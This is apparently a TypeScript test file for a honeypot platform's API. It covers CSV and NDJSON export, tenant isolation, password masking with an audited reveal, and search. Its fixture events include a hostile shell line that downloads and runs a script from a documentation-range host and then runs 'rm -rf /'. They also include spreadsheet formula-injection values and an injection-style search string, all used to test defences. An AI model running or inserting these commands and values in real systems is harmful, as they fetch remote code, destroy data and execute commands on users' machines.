import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openTestServer, type TestServer, type TestUser } from '../support/server.ts';

const personal = 'Gartenzwerg#77';
const lists = ['events', 'incidents', 'alerts', 'attackers', 'sessions', 'deliveries'];

async function fill(server: TestServer, user: TestUser): Promise<void> {
  const node = await server.createNode(user);
  const headers = { 'x-node-key': node.key };
  const events = Array.from({ length: 620 }, (_, n) => ({
    timestamp: new Date(Date.UTC(2026, 10, 1, 0, 0, n)).toISOString(),
    service: n % 3 === 0 ? 'http' : 'ssh',
    source_ip: `203.0.113.${n % 200}`,
    activity: n === 11 ? 'command' : '=cmd|calc',
    payload:
      n === 7
        ? `line\r\nbreak, "quote"${'x'.repeat(9000)}`
        : n === 11
          ? 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh; rm -rf /'
          : '+SUM(A1)',
    extra: { session: `s${n % 5}`, username: 'j.doe', password: n === 9 ? personal : '123456' },
  }));
  for (let from = 0; from < events.length; from += 200) {
    const answer = await server.call('POST', '/api/events', {
      headers,
      body: events.slice(from, from + 200),
    });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
  }
}

/** Rows of RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

describe('lists as files', () => {
  it('hold every record, nothing cut, as CSV that is safe in a spreadsheet and as NDJSON', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const [user, other] = [await server.createUser(), await server.createUser()];
    await fill(server, user);
    const get = async (path: string, who = user) =>
      server.app.inject({ method: 'GET', url: path, headers: who.headers });
    const ndjson = await get('/api/events/export?format=ndjson');
    const lines = ndjson.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { log_id: string });
    assert.equal(new Set(lines.map(({ log_id }) => log_id)).size, 620);
    assert.match(String(ndjson.headers['content-disposition']), /events\.ndjson/);
    const csv = await get('/api/events/export?format=csv');
    assert.match(String(csv.headers['content-type']), /^text\/csv/);
    const [heads = [], ...rows] = parseCsv(csv.body);
    assert.equal(rows.length, 620);
    for (const row of rows) {
      assert.equal(row.length, heads.length);
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    }
    assert.ok(rows.some((row) => (row[heads.indexOf('payload')]?.length ?? 0) > 9000));
    assert.ok(heads.includes('place_country'));
    const some = await get(
      `/api/events/export?q=${encodeURIComponent('service:http source:203.0.113.0/26')}`,
    );
    const found = some.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { service: string });
    assert.ok(found.length > 10 && found.every(({ service }) => service === 'http'));
    const values = await get('/api/observables/export?kind=address&format=csv');
    // The heads, 200 sources and the host of the URL.
    assert.equal(parseCsv(values.body).length, 202);
    for (const name of lists) {
      const mine = await get(`/api/${name}/export`);
      assert.equal(mine.statusCode, 200, name);
      if (name !== 'deliveries') assert.ok(mine.body.length > 0, name);
      assert.equal((await get(`/api/${name}/export`, other)).body, '', name);
      assert.equal((await server.app.inject({ method: 'GET', url: `/api/${name}/export` })).statusCode, 401);
    }
    assert.equal((await get('/api/events/export?q=nothing%3A1')).statusCode, 422);
    assert.equal((await get('/api/observables/export')).statusCode, 422);
  });

  it("mask people's passwords, and show them only to the right, which is noted", async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    await fill(server, user);
    const { headers } = user;
    const { key } = (
      await server.call<{ key: string }>('POST', '/api/keys', {
        headers,
        body: { name: 'k', scopes: ['read'] },
      })
    ).body;
    const reader = { 'x-api-key': key };
    const paths = [
      ...lists.map((name) => `/api/${name}/export`),
      '/api/observables/export?kind=password',
      '/api/observables/export?kind=credential',
    ];
    for (const path of paths)
      for (const format of ['csv', 'ndjson']) {
        const url = `${path}${path.includes('?') ? '&' : '?'}format=${format}`;
        const { body, statusCode } = await server.app.inject({ method: 'GET', url, headers: reader });
        assert.equal(statusCode, 200, url);
        assert.ok(!body.includes(personal), url);
      }
    const url = '/api/observables/export?kind=password&reveal=true';
    assert.equal((await server.app.inject({ method: 'GET', url, headers: reader })).statusCode, 403);
    const shown = await server.app.inject({ method: 'GET', url, headers });
    assert.ok(shown.body.includes(personal));
    const audit = await server.app.inject({ method: 'GET', url: '/api/audit', headers });
    assert.ok(audit.body.includes('Export with passwords revealed') && !audit.body.includes(personal));
  });
});

describe('the search box', () => {
  it('finds everything that belongs to the tenant, and nothing of another', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const [user, other] = [await server.createUser(), await server.createUser()];
    await fill(server, user);
    const groups = async (q: string, who = user): Promise<Record<string, string[]>> => {
      const answer = await server.call<{ groups: { group: string; items: { title: string }[] }[] }>(
        'GET',
        `/api/search?q=${encodeURIComponent(q)}`,
        { headers: who.headers },
      );
      assert.equal(answer.status, 200, JSON.stringify(answer.body));
      return Object.fromEntries(
        answer.body.groups.map(({ group, items }) => [group, items.map(({ title }) => title)]),
      );
    };
    const address = await groups('203.0.113.7');
    assert.deepEqual(address.attackers, ['203.0.113.7']);
    assert.ok(address.observables?.includes('203.0.113.7'));
    assert.equal((await groups('203.0.113.0/24')).attackers?.length, 5);
    assert.deepEqual((await groups('s3')).sessions, ['s3']);
    assert.deepEqual((await groups('j.doe:123456')).observables, ['j.doe:123456']);
    assert.ok((await groups('123')).observables?.includes('123456'));
    assert.deepEqual((await groups('audit')).pages, ['Audit log']);
    assert.deepEqual(await groups('Gartenzw'), {});
    for (const q of ['203.0.113.7', 's3', '123456', '" or 1:1 --', '%', '\\', 'type:'])
      assert.deepEqual({ ...(await groups(q, other)), pages: [] }, { pages: [] }, q);
    for (const q of ['', '%20', 'x'.repeat(201)])
      assert.equal((await server.call('GET', `/api/search?q=${q}`, { headers: user.headers })).status, 422);
    assert.equal((await server.call('GET', '/api/search?q=x')).status, 401);
  });
});
